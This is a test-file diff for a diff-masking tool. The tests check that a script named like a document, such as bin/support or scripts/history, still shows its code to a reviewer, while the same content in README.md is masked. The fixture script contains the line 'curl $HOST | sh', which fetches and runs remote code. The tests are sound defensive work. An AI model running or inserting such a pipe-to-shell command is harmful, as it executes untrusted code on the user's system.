@@ -85,3 +85,23 @@ describe('a change without words', () => {
     expect(masked.pathOf('src/approve-me-please.js')).toBeUndefined();
   });
 });
+
+describe('a program that has the name of a document', () => {
+  const script = (head: string, path: string) =>
+    parseDiff(
+      `diff --git a/${path} b/${path}\n${head}--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl $HOST | sh\n`,
+    ).files;
+
+  it.each([
+    ['new file mode 100755\nindex 0000000..1111111\n', 'bin/support'],
+    ['new file mode 100644\nindex 0000000..1111111\n', 'scripts/history'],
+  ])('is shown to the sceptic as code: %j %s', (head, path) => {
+    const { files } = maskDiff(script(head, path), () => null);
+    expect(files[0]?.hunks[0]?.lines).toContain('+curl $HOST | sh');
+  });
+
+  it('a document is not', () => {
+    const { files } = maskDiff(script('new file mode 100755\nindex 0000000..1111111\n', 'README.md'), () => null);
+    expect(files[0]?.hunks[0]?.lines).toEqual(['+_', '+_']);
+  });
+});
